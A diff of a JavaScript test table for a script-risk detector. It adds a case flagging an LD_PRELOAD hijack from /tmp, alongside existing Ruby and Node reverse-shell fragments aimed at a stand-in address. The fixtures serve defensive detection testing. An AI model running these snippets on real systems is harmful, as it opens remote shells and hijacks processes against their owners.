@@ -84,6 +84,7 @@ test.each([
 	['ruby', 'c=TCPSocket.new("192.0.2.1",1)\n$stdin.reopen(c)\n', ['critical']],
 	['node', 'const s=new net.Socket();const c=spawn("sh");s.pipe(c.stdin)', ['critical']],
 	['perl', 'my $x = `uptime`; system("tar czf /srv/x.tgz /home");\n', []],
+	[undefined, 'export LD_PRELOAD=/usr/lib/libjemalloc.so.2\nexport LD_PRELOAD=/tmp/.x.so\n', ['high']],
 ])('a script of %s: %j', (interpreter, text, expected) => {
 	expect(scriptSigns(text, interpreter).map(({ severity }) => severity)).toEqual(expected);
 });
